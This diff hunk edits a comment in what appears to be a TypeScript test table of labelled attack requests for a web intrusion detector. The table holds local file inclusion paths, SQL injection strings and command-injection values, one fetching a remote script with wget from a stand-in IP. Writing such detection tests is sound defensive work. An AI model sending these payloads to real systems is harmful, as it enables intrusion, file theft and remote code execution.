@@ -105,7 +105,7 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['lfi-absolute-path', '/view//var/www/config.php'],
   ['lfi-absolute-path', '/page?f=/windows/system32/drivers/etc/networks'],
   ['sqli-case-when', '/item?id=(select (case when (1=2) then 1 else 0 end))'],
-  ['rce-substitution', '/item?id=1|{ls,-la}'], // brace expansion where a command starts
+  ['rce-substitution', '/item?id=1|{ls,-la}'], // brace expansion as a word
   ['rce-substitution', '/item?cmd={wget,http://203.0.113.5/a.sh}'],
   ['rce-substitution', '/item?cmd=c{a,u}t+/etc/hosts'], // inside a word
   ['sqli-numeric-tautology', '/item?id=1 or not 2=3-- -'],
